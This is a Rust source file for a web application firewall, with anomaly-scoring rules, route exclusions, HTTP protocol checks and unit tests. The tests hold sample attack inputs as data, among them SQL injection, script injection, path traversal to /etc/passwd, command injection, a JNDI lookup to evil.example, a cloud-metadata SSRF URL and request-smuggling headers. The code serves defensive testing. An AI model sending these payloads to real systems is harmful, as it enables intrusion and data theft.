//! The web application firewall: normalisation, anomaly scoring over rule classes, paranoia
//! levels, per-route exclusions and protocol checks — plain Rust, run natively by the local
//! platform and `regrooter waf check`, and as wasm in the Worker.
//!
//! Every request collects the scores of the distinct rules it trips; at the inbound threshold
//! (5, one critical rule) it is blocked. Paranoia level 1 runs only the precise rules; higher
//! levels add broader ones that also catch more legitimate traffic.

pub mod normalize;
pub mod request;
pub mod rules;

use std::collections::BTreeSet;

use regex::bytes::{RegexSet, RegexSetBuilder};

pub use request::{Location, ProtocolIssue, Target, WafRequest};
pub use rules::Class;
use rules::{RULES, RuleDef, View};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Action {
    Allow,
    Block,
}

impl Action {
    pub fn as_str(self) -> &'static str {
        match self {
            Action::Allow => "allow",
            Action::Block => "block",
        }
    }
}

/// The outcome of inspecting one request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdict {
    pub action: Action,
    pub score: u32,
    /// Ids of every rule that matched, ascending.
    pub rules: Vec<u32>,
    pub classes: BTreeSet<Class>,
}

/// Arguments a route's free text may carry that look like attacks by nature.
#[derive(Debug, Clone)]
pub struct Exclusion {
    pub method: &'static str,
    pub path: &'static str,
    pub scope: ExclusionScope,
}

#[derive(Debug, Clone)]
pub enum ExclusionScope {
    /// These argument values are not inspected by content rules (the rest of the request is).
    Args(&'static [&'static str]),
    /// The body is passed on byte for byte, uninspected (a signed machine payload).
    Body,
}

/// The security report's five free-text fields describe attacks by design: a reporter writes
/// "the filter accepts ' OR 1=1 --". They are stored sealed and never rendered unescaped.
pub const REPORT_FREE_TEXT: &[&str] = &[
    "description",
    "affected_parties",
    "personal_data_kind",
    "scope",
    "impact_assessment",
];

/// Narrative fields the security team and customers write about incidents, measures and
/// outages: the same kind of free text as a report, behind the token gate.
pub const NARRATIVE_FREE_TEXT: &[&str] = &[
    "nature_and_scope",
    "likely_consequences",
    "what",
    "justification",
    "title",
    "note",
    "reason",
];

pub fn platform_exclusions() -> Vec<Exclusion> {
    vec![
        Exclusion {
            method: "POST",
            path: "/security/reports",
            scope: ExclusionScope::Args(REPORT_FREE_TEXT),
        },
        Exclusion {
            method: "*",
            path: "/api/incidents*",
            scope: ExclusionScope::Args(NARRATIVE_FREE_TEXT),
        },
        Exclusion {
            method: "POST",
            path: "/api/reports/*",
            scope: ExclusionScope::Args(NARRATIVE_FREE_TEXT),
        },
        Exclusion {
            method: "*",
            path: "/api/sla*",
            scope: ExclusionScope::Args(NARRATIVE_FREE_TEXT),
        },
        Exclusion {
            method: "POST",
            path: "/stripe/webhook",
            scope: ExclusionScope::Body,
        },
    ]
}

#[derive(Debug, Clone)]
pub struct WafConfig {
    /// 1 (default, fewest false positives) to 4 (strictest).
    pub paranoia: u8,
    /// Inbound anomaly score at which a request is blocked.
    pub threshold: u32,
    pub max_body_bytes: usize,
    pub max_header_bytes: usize,
    pub max_headers: usize,
    pub max_uri_bytes: usize,
    pub exclusions: Vec<Exclusion>,
}

impl Default for WafConfig {
    fn default() -> Self {
        Self {
            paranoia: 1,
            threshold: 5,
            max_body_bytes: 1024 * 1024,
            max_header_bytes: 8 * 1024,
            max_headers: 100,
            max_uri_bytes: 8 * 1024,
            exclusions: platform_exclusions(),
        }
    }
}

struct CompiledView {
    view: View,
    set: RegexSet,
    /// Index into `RULES` of each pattern of the set.
    rules: Vec<usize>,
}

pub struct Waf {
    config: WafConfig,
    views: Vec<CompiledView>,
}

const ALLOWED_METHODS: &[&str] = &["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
const ALLOWED_VERSIONS: &[&str] = &["HTTP/1.0", "HTTP/1.1", "HTTP/2", "HTTP/2.0", "HTTP/3"];
const ALLOWED_CONTENT_TYPES: &[&str] = &[
    "application/x-www-form-urlencoded",
    "multipart/form-data",
    "multipart/related",
    "text/xml",
    "application/xml",
    "application/soap+xml",
    "application/json",
    "application/problem+json",
    "application/csp-report",
    "application/reports+json",
    "text/plain",
];
const RESTRICTED_HEADERS: &[&str] = &["proxy", "lock-token", "content-range", "translate", "if"];
const RESTRICTED_EXTENSIONS: &[&str] = &[
    "asa",
    "asax",
    "ascx",
    "backup",
    "bak",
    "bat",
    "cdx",
    "cer",
    "cfg",
    "cmd",
    "com",
    "config",
    "conf",
    "cs",
    "csproj",
    "csr",
    "dat",
    "db",
    "dbf",
    "dll",
    "dos",
    "htr",
    "htw",
    "ida",
    "idc",
    "idq",
    "inc",
    "ini",
    "key",
    "licx",
    "lnk",
    "log",
    "mdb",
    "old",
    "pass",
    "pdb",
    "pol",
    "printer",
    "pwd",
    "rdb",
    "resources",
    "resx",
    "sql",
    "swp",
    "sys",
    "vb",
    "vbs",
    "vbproj",
    "vsdisco",
    "webinfo",
    "xsd",
    "xsx",
];

/// Protocol rules, scored in code rather than by pattern.
mod protocol_ids {
    pub const METHOD: u32 = 911100;
    pub const REQUEST_LINE: u32 = 920100;
    pub const CONTENT_LENGTH: u32 = 920160;
    pub const BODY_ON_GET: u32 = 920170;
    pub const LENGTH_AND_CHUNKED: u32 = 920181;
    pub const URL_ENCODING: u32 = 920220;
    pub const NUL_BYTE: u32 = 920270;
    pub const MISSING_HOST: u32 = 920280;
    pub const EMPTY_HOST: u32 = 920290;
    pub const IP_HOST: u32 = 920350;
    pub const LIMITS: u32 = 920380;
    pub const CONTENT_TYPE: u32 = 920420;
    pub const VERSION: u32 = 920430;
    pub const EXTENSION: u32 = 920440;
    pub const RESTRICTED_HEADER: u32 = 920450;
    pub const BODY_PARSE: u32 = 920480;
    pub const SMUGGLING: u32 = 921110;
    pub const SPLITTING: u32 = 921120;
    pub const HEADER_INJECTION: u32 = 921140;
    pub const ARG_NEWLINE: u32 = 921150;
}

struct Hits {
    rules: BTreeSet<u32>,
    classes: BTreeSet<Class>,
    score: u32,
}

impl Hits {
    fn add(&mut self, id: u32, class: Class, score: u8) {
        if self.rules.insert(id) {
            self.classes.insert(class);
            self.score += u32::from(score);
        }
    }
}

fn views_of(value: &str) -> [String; 3] {
    // Percent-decoding again catches double encoding and values that arrive encoded inside XML
    // or JSON; escapes may hide entities and the other way round, so both run twice.
    let once = normalize::html_entity_decode(&normalize::escape_decode(
        &normalize::url_decode_repeated(value, false),
    ));
    let decoded = normalize::canonical(&normalize::html_entity_decode(&normalize::escape_decode(
        &once,
    )));
    let compact = normalize::strip_comments(&decoded);
    let shell = normalize::collapse_whitespace(&normalize::shell_view(&decoded));
    [decoded, compact, shell]
}

fn view_index(view: View) -> usize {
    match view {
        View::Decoded => 0,
        View::Compact => 1,
        View::Shell => 2,
    }
}

fn in_scope(rule: &RuleDef, location: Location) -> bool {
    let bit = match location {
        Location::Path => rules::PATH,
        Location::ArgName | Location::ArgValue | Location::RawBody => rules::ARGS,
        Location::Cookie => rules::COOKIES,
        Location::Header => rules::HEADERS,
        Location::Filename => rules::FILES,
    };
    rule.scope & bit != 0
}

impl Waf {
    pub fn new(config: WafConfig) -> Self {
        let views = [View::Decoded, View::Compact, View::Shell]
            .into_iter()
            .map(|view| {
                let rules: Vec<usize> = RULES
                    .iter()
                    .enumerate()
                    .filter(|(_, r)| r.view == view && r.paranoia <= config.paranoia)
                    .map(|(i, _)| i)
                    .collect();
                // Byte-oriented and ASCII-only: the values are lowercased and decoded already, and
                // ASCII classes keep the automata small and fast.
                let set = RegexSetBuilder::new(rules.iter().map(|i| RULES[*i].pattern))
                    .unicode(false)
                    .dfa_size_limit(16 * 1024 * 1024)
                    .build()
                    .unwrap_or_else(|e| unreachable!("the rule test compiles every pattern: {e}"));
                CompiledView { view, set, rules }
            })
            .collect();
        Self { config, views }
    }

    pub fn config(&self) -> &WafConfig {
        &self.config
    }

    /// Inspects a request and decides.
    pub fn inspect(&self, request: &WafRequest) -> Verdict {
        let mut hits = Hits {
            rules: BTreeSet::new(),
            classes: BTreeSet::new(),
            score: 0,
        };
        self.protocol(request, &mut hits);
        let path = request.path();
        let exclusion = self.config.exclusions.iter().find(|e| {
            let method = e.method == "*" || e.method.eq_ignore_ascii_case(&request.method);
            // A trailing `*` matches any rest of the path.
            let route = match e.path.strip_suffix('*') {
                Some(prefix) => path.starts_with(prefix),
                None => path == e.path,
            };
            method && route
        });
        let body_excluded = matches!(exclusion.map(|e| &e.scope), Some(ExclusionScope::Body));
        let inspected;
        let (targets, body_ok) = if body_excluded {
            let without_body = WafRequest {
                body: Vec::new(),
                ..request.clone()
            };
            inspected = request::targets(&without_body);
            (inspected.0, true)
        } else {
            inspected = request::targets(request);
            (inspected.0, inspected.1)
        };
        // A body that does not parse as its content type is still scanned as raw text; only from
        // paranoia 2 on is the broken body itself an anomaly (at 1 the function answers it with a
        // precise 400 instead of a block).
        if !body_ok && self.config.paranoia >= 2 {
            hits.add(protocol_ids::BODY_PARSE, Class::Protocol, rules::CRITICAL);
        }
        let excluded_args: &[&str] = match exclusion.map(|e| &e.scope) {
            Some(ExclusionScope::Args(args)) => args,
            _ => &[],
        };
        for target in &targets {
            if target.location == Location::ArgValue
                && excluded_args
                    .iter()
                    .any(|a| target.name == *a || target.name.strip_prefix("json.") == Some(a))
            {
                continue;
            }
            self.scan(target, &mut hits);
        }
        let action = if hits.score >= self.config.threshold {
            Action::Block
        } else {
            Action::Allow
        };
        Verdict {
            action,
            score: hits.score,
            rules: hits.rules.into_iter().collect(),
            classes: hits.classes,
        }
    }

    fn scan(&self, target: &Target, hits: &mut Hits) {
        if target.value.is_empty() {
            return;
        }
        // CR/LF in argument names or header values: header injection and smuggling.
        if matches!(
            target.location,
            Location::ArgName | Location::Header | Location::Cookie
        ) && (target.value.contains('\n') || target.value.contains('\r'))
        {
            let id = if target.location == Location::ArgName {
                protocol_ids::ARG_NEWLINE
            } else {
                protocol_ids::HEADER_INJECTION
            };
            hits.add(id, Class::Protocol, rules::CRITICAL);
        }
        let views = views_of(&target.value);
        for compiled in &self.views {
            let text = &views[view_index(compiled.view)];
            if text.is_empty() {
                continue;
            }
            for m in compiled.set.matches(text.as_bytes()).into_iter() {
                let rule = &RULES[compiled.rules[m]];
                if in_scope(rule, target.location) {
                    hits.add(rule.id, rule.class, rule.score);
                }
            }
        }
        if matches!(
            target.location,
            Location::ArgValue | Location::RawBody | Location::Header | Location::Cookie
        ) {
            let lower = views[0].as_str();
            if smuggled_request(lower) {
                hits.add(protocol_ids::SMUGGLING, Class::Protocol, rules::CRITICAL);
            }
            if split_response(lower) {
                hits.add(protocol_ids::SPLITTING, Class::Protocol, rules::CRITICAL);
            }
        }
    }

    fn protocol(&self, request: &WafRequest, hits: &mut Hits) {
        use protocol_ids::*;
        use rules::{CRITICAL, WARNING};
        let p = Class::Protocol;
        for issue in &request.issues {
            let id = match issue {
                ProtocolIssue::MalformedRequestLine | ProtocolIssue::MalformedHeader => {
                    REQUEST_LINE
                }
                ProtocolIssue::ConflictingLength | ProtocolIssue::BadTransferEncoding => {
                    LENGTH_AND_CHUNKED
                }
                ProtocolIssue::InvalidContentLength | ProtocolIssue::MultipleContentLength => {
                    CONTENT_LENGTH
                }
                ProtocolIssue::MissingHost => MISSING_HOST,
                ProtocolIssue::NulInHeaders => NUL_BYTE,
                ProtocolIssue::UnparseableBody => BODY_PARSE,
            };
            hits.add(id, p, CRITICAL);
        }
        if !ALLOWED_METHODS.contains(&request.method.as_str()) {
            hits.add(METHOD, p, CRITICAL);
        }
        if !ALLOWED_VERSIONS.contains(&request.version.as_str()) {
            hits.add(VERSION, p, CRITICAL);
        }
        let lengths: Vec<&str> = request.headers_named("content-length").collect();
        if lengths.len() > 1 && lengths.windows(2).any(|w| w[0].trim() != w[1].trim()) {
            hits.add(CONTENT_LENGTH, p, CRITICAL);
        }
        if lengths
            .iter()
            .any(|l| l.trim().is_empty() || !l.trim().bytes().all(|b| b.is_ascii_digit()))
        {
            hits.add(CONTENT_LENGTH, p, CRITICAL);
        }
        let chunked = request.header("transfer-encoding");
        if chunked.is_some() && !lengths.is_empty() {
            hits.add(LENGTH_AND_CHUNKED, p, CRITICAL);
        }
        if let Some(te) = chunked
            && !te.trim().eq_ignore_ascii_case("chunked")
        {
            hits.add(LENGTH_AND_CHUNKED, p, CRITICAL);
        }
        if matches!(request.method.as_str(), "GET" | "HEAD")
            && (!request.body.is_empty() || lengths.iter().any(|l| l.trim() != "0"))
        {
            hits.add(BODY_ON_GET, p, CRITICAL);
        }
        match request.header("host") {
            None => hits.add(MISSING_HOST, p, WARNING),
            Some(h) if h.trim().is_empty() => hits.add(EMPTY_HOST, p, WARNING),
            Some(h) => {
                let host = h
                    .trim()
                    .trim_start_matches('[')
                    .split(']')
                    .next()
                    .unwrap_or_default();
                let host = host
                    .rsplit_once(':')
                    .filter(|(_, port)| port.bytes().all(|b| b.is_ascii_digit()))
                    .map_or(host, |(h, _)| h);
                if host.parse::<std::net::IpAddr>().is_ok() {
                    hits.add(IP_HOST, p, WARNING);
                }
            }
        }
        if !request.body.is_empty()
            && let Some(ct) = request.header("content-type")
        {
            let mime = ct
                .split(';')
                .next()
                .unwrap_or_default()
                .trim()
                .to_ascii_lowercase();
            let allowed = ALLOWED_CONTENT_TYPES.contains(&mime.as_str())
                || mime.ends_with("+json")
                || mime.ends_with("+xml");
            if !allowed {
                hits.add(CONTENT_TYPE, p, CRITICAL);
            }
        }
        if request
            .headers
            .iter()
            .any(|(n, _)| RESTRICTED_HEADERS.iter().any(|r| n.eq_ignore_ascii_case(r)))
        {
            hits.add(RESTRICTED_HEADER, p, CRITICAL);
        }
        let path = normalize::url_decode_repeated(request.path(), false).to_ascii_lowercase();
        if let Some(ext) = path
            .rsplit('/')
            .next()
            .and_then(|last| last.rsplit_once('.'))
            .map(|(_, e)| e)
            && RESTRICTED_EXTENSIONS.contains(&ext)
        {
            hits.add(EXTENSION, p, CRITICAL);
        }
        if invalid_percent_encoding(&request.uri) {
            hits.add(URL_ENCODING, p, WARNING);
        }
        if request.uri.contains('\0')
            || request.uri.contains("%00") && !request.uri.contains("%00/")
        {
            hits.add(NUL_BYTE, p, CRITICAL);
        }
        let header_bytes: usize = request
            .headers
            .iter()
            .map(|(n, v)| n.len() + v.len() + 4)
            .sum();
        if request.body.len() > self.config.max_body_bytes
            || request.headers.len() > self.config.max_headers
            || request
                .headers
                .iter()
                .any(|(n, v)| n.len() + v.len() > self.config.max_header_bytes)
            || header_bytes > 4 * self.config.max_header_bytes
            || request.uri.len() > self.config.max_uri_bytes
        {
            hits.add(LIMITS, p, CRITICAL);
        }
    }
}

fn invalid_percent_encoding(s: &str) -> bool {
    let b = s.as_bytes();
    b.iter().enumerate().any(|(i, c)| {
        *c == b'%'
            && !(b.get(i + 1).is_some_and(u8::is_ascii_hexdigit)
                && b.get(i + 2).is_some_and(u8::is_ascii_hexdigit))
            && !(b.get(i + 1).is_some_and(|u| *u == b'u' || *u == b'U'))
    })
}

const SMUGGLE_METHODS: &[&str] = &[
    "get", "post", "head", "options", "connect", "put", "delete", "trace", "track", "patch",
];

fn smuggled_request(text: &str) -> bool {
    text.split(['\n', '\r']).skip(1).any(|line| {
        let mut parts = line.split_whitespace();
        matches!((parts.next(), parts.next(), parts.next()), (Some(m), Some(_), Some(v)) if SMUGGLE_METHODS.contains(&m) && v.starts_with("http/"))
    })
}

fn split_response(text: &str) -> bool {
    text.split(['\n', '\r']).skip(1).any(|line| {
        let line = line.trim_start_matches(|c: char| !c.is_alphanumeric());
        [
            "content-type:",
            "content-length:",
            "set-cookie:",
            "location:",
            "http/1.",
        ]
        .iter()
        .any(|h| line.starts_with(h))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(waf: &Waf, method: &str, uri: &str, ct: Option<&str>, body: &str) -> Verdict {
        let mut headers = vec![("Host".to_string(), "trust.example".to_string())];
        if let Some(ct) = ct {
            headers.push(("Content-Type".to_string(), ct.to_string()));
        }
        waf.inspect(&WafRequest::new(
            method,
            uri,
            headers,
            body.as_bytes().to_vec(),
        ))
    }

    #[test]
    fn obvious_attacks_are_blocked_and_plain_requests_pass() {
        let waf = Waf::new(WafConfig::default());
        for (uri, body) in [
            ("/api/x?id=1%27%20OR%20%271%27%3D%271", ""),
            ("/api/x?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
            ("/api/x?file=../../../../etc/passwd", ""),
            ("/api/x?cmd=;cat%20/etc/passwd", ""),
            ("/api/x", "a=${jndi:ldap://evil.example/x}"),
            ("/api/x?u=http://169.254.169.254/latest/meta-data/", ""),
        ] {
            let method = if body.is_empty() { "GET" } else { "POST" };
            let ct = (!body.is_empty()).then_some("application/x-www-form-urlencoded");
            let v = check(&waf, method, uri, ct, body);
            assert_eq!(v.action, Action::Block, "{uri} {body}: {v:?}");
        }
        for uri in [
            "/",
            "/api/incidents?status=open",
            "/security/report?lang=de",
            "/healthz",
        ] {
            let v = check(&waf, "GET", uri, None, "");
            assert_eq!(v.action, Action::Allow, "{uri}: {v:?}");
        }
    }

    #[test]
    fn report_free_text_may_describe_attacks_but_the_rest_is_inspected() {
        let waf = Waf::new(WafConfig::default());
        let report = r#"{"description":"the filter takes ' OR 1=1 -- and <script>alert(1)</script>","affected_parties":"ACME","personal_data_kind":"emails","scope":"all","impact_assessment":"high"}"#;
        let v = check(
            &waf,
            "POST",
            "/security/reports",
            Some("application/json"),
            report,
        );
        assert_eq!(v.action, Action::Allow, "{v:?}");
        let smuggled = r#"{"description":"ok","affected_parties":"x","personal_data_kind":"x","scope":"x","impact_assessment":"x","language":"<script>alert(1)</script>"}"#;
        let v = check(
            &waf,
            "POST",
            "/security/reports",
            Some("application/json"),
            smuggled,
        );
        assert_eq!(v.action, Action::Block, "{v:?}");
        // The same free text on another route is an attack.
        let v = check(
            &waf,
            "POST",
            "/api/incidents",
            Some("application/json"),
            report,
        );
        assert_eq!(v.action, Action::Block, "{v:?}");
    }

    #[test]
    fn the_stripe_webhook_body_passes_untouched() {
        let waf = Waf::new(WafConfig::default());
        let body =
            r#"{"object":"event","data":{"object":{"description":"<script>x</script> ' or 1=1"}}}"#;
        let v = check(
            &waf,
            "POST",
            "/stripe/webhook",
            Some("application/json"),
            body,
        );
        assert_eq!(v.action, Action::Allow, "{v:?}");
    }

    #[test]
    fn protocol_violations() {
        let waf = Waf::new(WafConfig::default());
        let raw = b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\nhello";
        assert_eq!(
            waf.inspect(&WafRequest::from_raw(raw)).action,
            Action::Block
        );
        let raw = b"TRACK / HTTP/1.1\r\nHost: a\r\n\r\n";
        assert_eq!(
            waf.inspect(&WafRequest::from_raw(raw)).action,
            Action::Block
        );
        let raw = b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 1x\r\n\r\n";
        assert_eq!(
            waf.inspect(&WafRequest::from_raw(raw)).action,
            Action::Block
        );
        let raw = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n";
        assert_eq!(
            waf.inspect(&WafRequest::from_raw(raw)).action,
            Action::Allow
        );
    }

    #[test]
    fn paranoia_adds_broader_rules() {
        let low = Waf::new(WafConfig::default());
        let high = Waf::new(WafConfig {
            paranoia: 2,
            ..WafConfig::default()
        });
        let v1 = check(&low, "GET", "/x?q=%3Cb%3Ebold%3C/b%3E", None, "");
        let v2 = check(&high, "GET", "/x?q=%3Cb%3Ebold%3C/b%3E", None, "");
        assert_eq!((v1.action, v2.action), (Action::Allow, Action::Block));
    }
}
